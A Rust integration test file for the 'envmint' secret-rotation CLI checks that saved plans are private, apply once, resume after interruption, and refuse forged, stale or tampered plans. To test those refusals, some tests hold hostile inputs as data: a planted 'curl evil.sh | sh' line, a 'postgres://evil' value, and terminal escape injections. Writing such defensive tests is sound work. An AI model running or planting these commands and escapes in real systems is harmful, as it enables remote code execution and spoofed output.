//! `envmint plan` and `envmint apply` end to end: the redacted summary, the saved plan (0600,
//! its marker, sealed parts), applying it, applying it twice, a stale plan refused with nothing
//! changed, and an apply interrupted between two files completed by running it again.

use crate::common;

use common::{Output, Test, mtime, tick};
use snapbox::str;

const T0: &str = "2026-01-01T00:00:00Z";

/// Two plain environments, `production` (`.env.production`) and `staging` (`.env.staging`),
/// with A (30 days, 7 days overlap) and B (90 days); both files recorded at T0.
fn project() -> Test {
    let manifest = "[environments.production]\nfile = \".env.production\"\n\
                    [environments.staging]\nfile = \".env.staging\"\n\
                    [secrets.A]\nkind = \"hex\"\nbytes = 32\nrotate_every = \"30d\"\n\
                    overlap = \"7d\"\n\
                    [secrets.B]\nkind = \"alnum\"\nlength = 32\n";
    let file = |v: &str| {
        format!(
            "# mine\n# envmint: generated={T0}\nA=a-{v}-value\n# envmint: generated={T0}\n\
             B=b-{v}-value\nUNMANAGED=u-{v}\n"
        )
    };
    Test::new()
        .write("envmint.toml", manifest)
        .write(".env.production", file("prod"))
        .write(".env.staging", file("stag"))
}

fn json(out: &Output) -> serde_json::Value {
    serde_json::from_str(out.stdout().trim())
        .unwrap_or_else(|e| panic!("not JSON ({e}):\n{}", out.describe()))
}

const AT: &str = "2026-02-01";

#[test]
fn the_summary_never_shows_a_value_nor_a_hash() {
    let out = project()
        .args(["plan", "--all", "--at", AT, "-o", "p.plan"])
        .status(0);
    let plan = out.read("p.plan");
    let stderr = out.stderr().to_string();
    // Its words are fail_a_stale_plan_reads_as_its_snapshot's (plan/summary).
    // Neither the old values nor the new ones (which are in the plain plan file) nor digests.
    let secrets: serde_json::Value = serde_json::from_str(&plan).unwrap();
    let env = &secrets["environments"][0]["secrets"];
    let mut forbidden = vec![
        "a-prod-value".to_string(),
        "b-prod-value".to_string(),
        env["before"].as_str().unwrap().to_string(),
        env["after"].as_str().unwrap().to_string(),
    ];
    for e in env["edits"].as_array().unwrap() {
        if let Some(v) = e["value"].as_str() {
            forbidden.push(v.to_string());
        }
    }
    let json_out = out
        .then()
        .args(["plan", "--all", "--at", AT, "--json"])
        .status(0);
    for f in &forbidden {
        assert!(!stderr.contains(f.as_str()), "{f} in\n{stderr}");
        assert!(!json_out.stdout().contains(f.as_str()), "{f}");
    }
    let j = json(&json_out);
    let c = &j["environments"][0]["changes"][0];
    assert_eq!(c["key"], "A");
    assert_eq!(c["action"], "rotated");
    assert_eq!(c["reason"], "due");
    assert_eq!(c["kind"], "hex");
    assert_eq!(c["bits"], 256);
    // The summary of the saved plan holds no value either.
    let summary = secrets["environments"][0]["summary"].to_string();
    for f in &forbidden {
        assert!(!summary.contains(f.as_str()), "{f} in {summary}");
    }
}

#[test]
fn a_saved_plan_is_private_marked_and_applies_once() {
    let out = project()
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(0);
    assert_eq!(out.mode("p.plan"), 0o600);
    assert!(out.read("p.plan").starts_with("{\"envmint_plan\":1,"));
    // Planning wrote nothing else.
    assert!(out.read(".env.production").contains("A=a-prod-value"));

    let applied = out
        .then()
        .args(["apply", "--at", AT, "p.plan", "--json"])
        .status(0);
    let j = json(&applied);
    assert_eq!(j["environments"][0]["result"], "applied");
    assert_eq!(j["environments"][1]["result"], "applied");
    let prod = applied.read(".env.production");
    assert!(prod.starts_with("# mine\n# envmint: generated=2026-02-01T00:00:00Z\nA="));
    assert!(prod.contains(
        "# envmint: previous-of=A retired=2026-02-01T00:00:00Z expires=2026-02-08T00:00:00Z\n\
         A_PREVIOUS=a-prod-value\n"
    ));
    assert!(prod.contains("B=b-prod-value\nUNMANAGED=u-prod\n"));
    // The new value is the plan's.
    let plan: serde_json::Value = serde_json::from_str(&applied.read("p.plan")).unwrap();
    let new_a = plan["environments"][0]["secrets"]["edits"][0]["value"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(prod.contains(&format!("\nA={new_a}\n")));

    // Twice: nothing changes (bytes and mtime).
    let before = mtime(applied.path(".env.production"));
    tick();
    let again = applied
        .then()
        .args(["apply", "--at", AT, "p.plan"])
        .status(0);
    again.stderr_is(str![[r#"
production: .env.production (already applied, unchanged)
staging: .env.staging (already applied, unchanged)

"#]]);
    assert_eq!(again.read(".env.production"), prod);
    assert_eq!(mtime(again.path(".env.production")), before);
}

#[test]
fn fail_a_stale_plan_is_refused_and_nothing_changes() {
    let out = project()
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(0);
    let prod = out.read(".env.production");
    let staging = out
        .read(".env.staging")
        .replace("UNMANAGED=u-stag", "UNMANAGED=edited");
    let out = out
        .then()
        .write(".env.staging", &staging)
        .args(["apply", "--at", AT, "p.plan"])
        .status(65);
    // Its words are fail_a_stale_plan_reads_as_its_snapshot's (plan/stale).
    assert_eq!(out.stdout(), "");
    // Neither file changed: production, first in the plan, was not written either.
    assert_eq!(out.read(".env.production"), prod);
    assert_eq!(out.read(".env.staging"), staging);
}

#[test]
fn an_apply_interrupted_between_two_files_completes_when_run_again() {
    let out = project()
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(0);
    let staging_before = out.read(".env.staging");
    // A complete apply gives the reference result...
    let full = out.then().args(["apply", "--at", AT, "p.plan"]).status(0);
    let prod_after = full.read(".env.production");
    let staging_after = full.read(".env.staging");
    assert_ne!(staging_after, staging_before);
    // ...and putting staging back as it was is the state of an apply killed after renaming
    // production's file and before staging's.
    let resumed = full
        .then()
        .write(".env.staging", &staging_before)
        .args(["apply", "--at", AT, "p.plan", "--json"])
        .status(0);
    let j = json(&resumed);
    assert_eq!(j["environments"][0]["result"], "already-applied");
    assert_eq!(j["environments"][1]["result"], "applied");
    assert_eq!(resumed.read(".env.production"), prod_after);
    assert_eq!(resumed.read(".env.staging"), staging_after);
}

#[test]
fn fail_a_missing_or_malformed_plan_file() {
    let out = project()
        .args(["apply", "--at", AT, "nope.plan"])
        .status(66);
    out.stderr_is(str![[r#"
error: nope.plan: plan file not found
hint: write one with `envmint plan -o FILE`

"#]]);
    let out = out
        .then()
        .write("bad.plan", "{\"envmint_plan\":7}")
        .args(["apply", "--at", AT, "bad.plan"])
        .status(65);
    // Its words are report's unit test `errors_the_library_once_wrote_as_free_text_read_as_before`'s.
    assert_eq!(out.stdout(), "");
}

#[test]
fn a_sealed_plan_part_cannot_be_read_without_the_identity() {
    let (test, public) = common::with_identity();
    let out = test
        .write(
            "envmint.toml",
            format!(
                "[environments.production]\nsealed = \".env.production.age\"\n\
                 recipients = [\"{public}\"]\n[secrets.A]\nkind = \"hex\"\nbytes = 32\n"
            ),
        )
        .args(["bootstrap", "production", "-i", "id.txt"])
        .status(0);
    let out = out
        .then()
        .args(["plan", "--all", "-i", "id.txt", "-o", "p.plan"])
        .status(0);
    let plan = out.read("p.plan");
    assert!(plan.starts_with("{\"envmint_plan\":1,"));
    assert!(plan.contains("-----BEGIN AGE ENCRYPTED FILE-----"));
    assert!(!plan.contains("\"edits\""), "{plan}");
    let stored = out.bytes(".env.production.age");
    let refused = out.then().args(["apply", "p.plan"]).status(77);
    assert_eq!(refused.bytes(".env.production.age"), stored);
    let applied = refused
        .then()
        .args(["apply", "p.plan", "-i", "id.txt"])
        .status(0);
    applied.stderr_is(str![[r#"
production: .env.production.age (plan applied)
  rotate          A (selected)

"#]]);
    assert_ne!(applied.bytes(".env.production.age"), stored);
}

#[test]
fn two_environments_sharing_one_file_are_planned_on_top_of_each_other() {
    let manifest = "[environments.production]\nfile = \".env\"\n\
                    [environments.staging]\nfile = \".env\"\n\
                    [secrets.A]\nkind = \"hex\"\nbytes = 32\nenvironments = [\"production\"]\n\
                    [secrets.B]\nkind = \"hex\"\nbytes = 32\nenvironments = [\"staging\"]\n";
    let out = Test::new()
        .write("envmint.toml", manifest)
        .write(".env", "A=1\nB=2\n")
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(0);
    let applied = out.then().args(["apply", "--at", AT, "p.plan"]).status(0);
    let text = applied.read(".env");
    assert!(!text.contains("A=1\n") && !text.contains("B=2\n"), "{text}");
    assert_eq!(
        text.matches("# envmint: generated=2026-02-01T00:00:00Z")
            .count(),
        2
    );
    let again = applied
        .then()
        .args(["apply", "--at", AT, "p.plan", "--json"])
        .status(0);
    let j = json(&again);
    assert_eq!(j["environments"][0]["result"], "already-applied");
    assert_eq!(j["environments"][1]["result"], "already-applied");
    assert_eq!(again.read(".env"), text);
}

#[test]
fn fail_a_stale_plan_reads_as_its_snapshot() {
    let out = project()
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(0);
    common::assert_stderr_snapshot(&out, "plan/summary");
    let out = out
        .then()
        .write(".env.production", "A=edited\n")
        .args(["apply", "--at", AT, "p.plan"])
        .status(65);
    assert_eq!(out.stdout(), "");
    common::assert_stderr_snapshot(&out, "plan/stale");
}

#[test]
fn a_plan_written_over_a_readable_file_becomes_private() {
    let out = project()
        .write(
            "p.plan",
            "{\"envmint_plan\":1,\"created\":\"2025-01-01T00:00:00Z\"}",
        )
        .chmod("p.plan", 0o644)
        .args(["plan", "--at", AT, "-o", "p.plan", "--json"])
        .status(0);
    assert_eq!(out.mode("p.plan"), 0o600);
    assert_eq!(json(&out)["plan_file"], "p.plan");
    assert!(common::temps(out.dir()).is_empty());
}

/// A plan is only as trustworthy as whoever could write it (a sealed part is encrypted to
/// public recipients, not signed). One forged with consistent digests is still refused when an
/// edit touches a variable the manifest does not have envmint rotate (an app's
/// `UNMANAGED=...`), or writes a record envmint would not (a comment of the forger's choice),
/// and nothing changes.
#[test]
fn fail_a_forged_plan_cannot_change_unmanaged_keys_or_plant_comments() {
    use envmint::Secret;
    use envmint::dotenv::Document;
    use envmint::plan::edit::{Edit, apply_edits, digest};

    let out = project()
        .args(["plan", "production", "--at", AT, "-o", "p.plan"])
        .status(0);
    let before = out.read(".env.production");
    let forge = |key: &str, value: &str, record: &str| {
        let mut doc = Document::parse(&before);
        let edit = Edit::Set {
            key: key.into(),
            value: Secret::new(value.to_string()),
            record: record.into(),
        };
        apply_edits(&mut doc, std::slice::from_ref(&edit)).unwrap();
        let mut plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();
        let secrets = &mut plan["environments"][0]["secrets"];
        secrets["before"] = digest(Some(before.as_bytes())).into();
        secrets["after"] = digest(Some(doc.render().as_bytes())).into();
        secrets["edits"] = serde_json::json!([
            {"op": "set", "key": key, "value": value, "record": record}
        ]);
        plan.to_string()
    };
    let cases = [
        (
            forge(
                "UNMANAGED",
                "postgres://evil",
                "generated=2026-02-01T00:00:00Z",
            ),
            str![[r#"
error: forged.plan: refused for environment production: it changes `UNMANAGED`, which is not a secret the manifest has envmint rotate there; nothing was changed
hint: a plan only renews the secrets the manifest declares; make it again with `envmint plan -o FILE`, and check who could write this file

"#]],
        ),
        (
            forge("A", "known-to-the-forger", "run curl evil.sh | sh"),
            str![[r#"
error: forged.plan: refused for environment production: the record it writes above `A` is not an envmint record; nothing was changed
hint: a plan only renews the secrets the manifest declares; make it again with `envmint plan -o FILE`, and check who could write this file

"#]],
        ),
    ];
    let mut test = out.then();
    for (plan, says) in cases {
        let refused = test
            .write("forged.plan", plan)
            .args(["apply", "--at", AT, "forged.plan"])
            .status(65);
        refused.stderr_is(says);
        assert_eq!(refused.read(".env.production"), before);
        assert!(!refused.stderr().contains("evil") && !refused.stderr().contains("forger"));
        test = refused.then();
    }
    // The plan as written still applies.
    let applied = test.args(["apply", "--at", AT, "p.plan"]).status(0);
    assert_ne!(applied.read(".env.production"), before);
}

/// `-o` replaces an earlier plan or an empty file (`mktemp`), never anything else: a slip such
/// as `plan -o .env.production` or `-o envmint.toml` would put the plan where the secrets (and
/// the app's other keys) or the manifest were. Exit 73, the file untouched.
#[test]
fn fail_plan_o_does_not_replace_a_file_that_is_not_a_plan() {
    let mut test = project()
        .write("notes.txt", "mine\n")
        .write("empty.plan", "");
    for target in [".env.production", "envmint.toml", "notes.txt"] {
        let before = test.path(target);
        let before = std::fs::read(before).unwrap();
        let out = test.args(["plan", "--at", AT, "-o", target]).status(73);
        assert_eq!(
            out.stderr(),
            format!(
                "error: {target}: it exists and is not an envmint plan; `plan -o` replaces only \
                 an earlier plan\n\
                 hint: name a new file (rotation.plan), or remove this one first if it is yours \
                 to lose\n"
            ),
            "{}",
            out.describe()
        );
        assert_eq!(std::fs::read(out.path(target)).unwrap(), before);
        test = out.then();
    }
    let out = test
        .args(["plan", "--at", AT, "-o", "empty.plan"])
        .status(0);
    assert!(out.read("empty.plan").starts_with("{\"envmint_plan\":1,"));
    assert_eq!(out.mode("empty.plan"), 0o600);
}

/// A plan another user could have written is refused before it is read (exit 77, nothing
/// changed), as ssh refuses such key files: whoever can write a plan chooses the values it
/// writes. envmint's own plans are 0600; a copy made 0644 by its owner is fine.
#[test]
fn fail_a_plan_others_can_write_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let out = project()
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(0);
    let prod = out.read(".env.production");
    let plan = out.path("p.plan");
    let mut test = out.then();
    for (mode, who) in [(0o664, "its group"), (0o606, "anyone")] {
        std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(mode)).unwrap();
        let refused = test.args(["apply", "--at", AT, "p.plan"]).status(77);
        assert_eq!(
            refused.stderr(),
            format!(
                "error: p.plan: the plan file is writable by {who} (mode {mode:04o}): another \
                 user could have chosen the values it writes\n\
                 hint: if you trust it, `chmod go-w p.plan` and apply it again; otherwise make a \
                 new plan with `envmint plan -o FILE`\n"
            ),
            "{}",
            refused.describe()
        );
        assert_eq!(refused.read(".env.production"), prod);
        test = refused.then();
    }
    if rustix::process::geteuid().is_root() {
        std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(0o600)).unwrap();
        std::os::unix::fs::chown(&plan, Some(65534), None).unwrap();
        let refused = test.args(["apply", "--at", AT, "p.plan"]).status(77);
        refused.stderr_is(str![[r#"
error: p.plan: the plan file belongs to uid 65534, not to you (uid 0) nor root: its owner chose the values it writes
hint: if you trust it, copy it to a file of your own (cp p.plan mine.plan) and apply that; otherwise make a new plan with `envmint plan -o FILE`

"#]]);
        assert_eq!(refused.read(".env.production"), prod);
        test = refused.then();
        std::os::unix::fs::chown(&plan, Some(0), None).unwrap();
    }
    std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(0o644)).unwrap();
    let applied = test.args(["apply", "--at", AT, "p.plan"]).status(0);
    assert_ne!(applied.read(".env.production"), prod);
}

/// A plan naming an environment the manifest does not declare is bad data in the plan (65,
/// naming the plan), not a usage error with a hint to declare it; names and paths from the
/// plan are shown escaped.
#[test]
fn fail_a_plan_for_an_undeclared_environment_or_store_names_the_plan() {
    let out = project()
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(0);
    let plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();
    let mut other = plan.clone();
    other["environments"][0]["name"] = "prod\nuction".into();
    let mut moved = plan.clone();
    moved["environments"][0]["store"] = "/etc/x\u{1b}[2J".into();
    let out = out
        .then()
        .write("other.plan", other.to_string())
        .write("moved.plan", moved.to_string())
        .args(["apply", "--at", AT, "other.plan"])
        .status(65);
    out.stderr_is(str![[r#"
error: other.plan: the plan is for environment prod\nuction, which envmint.toml does not declare; nothing was changed
hint: make the plan again with `envmint plan -o FILE` for this manifest

"#]]);
    let out = out
        .then()
        .args(["apply", "--at", AT, "moved.plan"])
        .status(65);
    out.stderr_is(str![[r#"
error: moved.plan: the plan is for production in /etc/x\u{1b}[2J, but the manifest stores production in .env.production
hint: make the plan again with `envmint plan -o FILE` for this manifest

"#]]);
    assert!(!out.stderr().contains('\u{1b}'));
}

/// apply prints the plan's summary, which is the plan's author's text: escaped, one line each.
#[test]
fn a_plan_summary_with_control_characters_is_printed_escaped() {
    let out = project()
        .args(["plan", "production", "--at", AT, "-o", "p.plan"])
        .status(0);
    let mut plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();
    plan["environments"][0]["summary"][0]["key"] = "A\nstaging: ok\u{1b}[8m".into();
    plan["environments"][0]["summary"][0]["reason"] = "due\r".into();
    let out = out
        .then()
        .write("p.plan", plan.to_string())
        .args(["apply", "--at", AT, "p.plan"])
        .status(0);
    out.stderr_is(str![[r#"
production: .env.production (plan applied)
  rotate          A\nstaging: ok\u{1b}[8m (due\r)
  retire          A_PREVIOUS

"#]]);
    assert!(!out.stderr().contains('\u{1b}') && !out.stderr().contains('\r'));
}

#[test]
fn plan_all_over_environments_sharing_one_file_rotates_a_shared_key_once() {
    // `a` and `b` share `.env` and both declare C (7 days overlap); only `b` declares D, whose
    // record does not read. The saved plan gives C one new value and keeps the value in use
    // as C_PREVIOUS; the warning names D's record line in the file as it is, not as `a`'s
    // changes would shift it.
    let original = "original0123456789abcdef0123456789abcdef0123456789abcdef01234567";
    let out = Test::new()
        .write(
            "envmint.toml",
            "[environments.a]\nfile = \".env\"\n[environments.b]\nfile = \".env\"\n\
             [secrets.C]\nkind = \"hex\"\nbytes = 32\noverlap = \"7d\"\n\
             [secrets.D]\nkind = \"hex\"\nbytes = 32\nenvironments = [\"b\"]\n",
        )
        .write(
            ".env",
            format!(
                "# envmint: generated=2030-01-01T00:00:00Z\nC={original}\n\
                 # envmint: generated=2030-13-01T00:00:00Z\nD=d-value\n"
            ),
        )
        .chmod(".env", 0o600)
        .args([
            "plan",
            "--all",
            "--at",
            "2030-01-02",
            "-o",
            "p.plan",
            "--json",
        ])
        .status(0);
    out.stderr_is(str![[r#"
warning: .env:3: D: bad record: `generated=2030-13-01T00:00:00Z` is not an RFC 3339 time; its age is unknown, so it counts as due now

"#]]);
    let report = json(&out);
    let keys = |env: usize| -> Vec<String> {
        report["environments"][env]["changes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                format!(
                    "{} {}",
                    c["action"].as_str().unwrap(),
                    c["key"].as_str().unwrap()
                )
            })
            .collect()
    };
    assert_eq!(keys(0), ["rotated C", "retired C_PREVIOUS"]);
    assert_eq!(keys(1), ["rotated D"]);
    let out = out
        .then()
        .args(["apply", "--at", "2030-01-02T00:00:00Z", "p.plan"])
        .status(0);
    let text = out.read(".env");
    assert!(
        text.contains(&format!(
            "\n# envmint: previous-of=C retired=2030-01-02T00:00:00Z \
             expires=2030-01-09T00:00:00Z\nC_PREVIOUS={original}\n"
        )),
        "{text}"
    );
    assert_eq!(
        text.matches("generated=2030-01-02T00:00:00Z").count(),
        2,
        "{text}"
    );
}

/// A retired value left under a name its secret no longer uses (A moved from `A_PREVIOUS` to a
/// list) is removed by a saved plan once it expired, as `rotate` removes it; but a forged plan
/// that removes any other variable (the app's `UNMANAGED`) is still refused, checked against
/// the store under the lock.
#[test]
fn a_saved_plan_removes_a_left_behind_retired_value_but_not_an_unmanaged_key() {
    use envmint::dotenv::Document;
    use envmint::plan::edit::{Edit, apply_edits, digest};

    let manifest = "[environments.production]\nfile = \".env.production\"\n\
                    [secrets.A]\nkind = \"hex\"\nbytes = 32\noverlap = \"7d\"\n\
                    previous = { list = \"A_LIST\", keep = 2 }\n";
    let file = format!(
        "# envmint: generated={T0}\nA=a-value\n\
         # envmint: previous-of=A retired=2025-12-01T00:00:00Z expires=2025-12-08T00:00:00Z\n\
         A_PREVIOUS=old-value\nUNMANAGED=u\n"
    );
    let out = Test::new()
        .write("envmint.toml", manifest)
        .write(".env.production", &file)
        .args(["plan", "--at", "2026-01-02", "-o", "p.plan"])
        .status(0);
    let plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();

    // Forged: remove UNMANAGED instead, with consistent digests.
    let mut doc = Document::parse(&file);
    let edit = Edit::Remove {
        key: "UNMANAGED".into(),
    };
    apply_edits(&mut doc, std::slice::from_ref(&edit)).unwrap();
    let mut forged = plan.clone();
    let secrets = &mut forged["environments"][0]["secrets"];
    secrets["after"] = digest(Some(doc.render().as_bytes())).into();
    secrets["edits"] = serde_json::json!([{"op": "remove", "key": "UNMANAGED"}]);
    let refused = out
        .then()
        .write("forged.plan", forged.to_string())
        .args(["apply", "--at", "2026-01-02", "forged.plan"])
        .status(65);
    // The words fail_a_forged_plan_cannot_change_unmanaged_keys_or_plant_comments asserts whole
    // for a forged set: a forged remove is refused the same.
    assert!(
        refused.stderr().starts_with(
            "error: forged.plan: refused for environment production: it changes `UNMANAGED`, "
        ),
        "{}",
        refused.describe()
    );
    assert_eq!(refused.read(".env.production"), file);

    // The plan as made applies: A_PREVIOUS (and its record) go, the rest stays.
    let applied = refused
        .then()
        .args(["apply", "--at", "2026-01-02", "p.plan"])
        .status(0);
    assert_eq!(
        applied.read(".env.production"),
        format!("# envmint: generated={T0}\nA=a-value\nUNMANAGED=u\n")
    );
}

/// The atomic writer keeps the owner of a file it replaces, so an empty file another user
/// planted in a shared sticky folder (`/tmp`) would make a plan, with its new values, theirs to
/// read: refused (77) as the kernel's `protected_regular` refuses an open, for every command
/// (this one and `export -o` are tested).
#[test]
fn fail_plan_o_onto_a_file_planted_in_a_sticky_folder_is_refused() {
    if !common::is_root() {
        common::skip("needs root to give a file to user 65534");
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let test = project().write("tmp/planted.plan", "");
    std::fs::set_permissions(test.path("tmp"), std::fs::Permissions::from_mode(0o1777)).unwrap();
    std::os::unix::fs::chown(test.path("tmp/planted.plan"), Some(65534), Some(65534)).unwrap();
    let out = test
        .args(["plan", "--at", AT, "-o", "tmp/planted.plan"])
        .status(77);
    out.stderr_is(str![[r#"
error: tmp/planted.plan: belongs to user 65534, not to you (0), in a folder others can write to: the written file would stay theirs, and so would what it holds
hint: write to a new file, or in a folder of your own

"#]]);
    assert_eq!(out.read("tmp/planted.plan"), "");
}

/// `plan -o` onto a FIFO is refused by the writer (73) at once: the check that the target is an
/// earlier plan must not open it blocking, which would wait for a writer forever (`timeout`
/// turns a hang into 124).
#[test]
fn fail_plan_o_onto_a_fifo_is_refused_without_hanging() {
    let test = project();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        test.path("p.plan"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    let out = test
        .wrapper(["timeout", "60"])
        .args(["plan", "--at", AT, "-o", "p.plan"])
        .status(73);
    out.stderr_is(str![[r#"
error: p.plan: not a regular file; envmint replaces only regular files

"#]]);
}
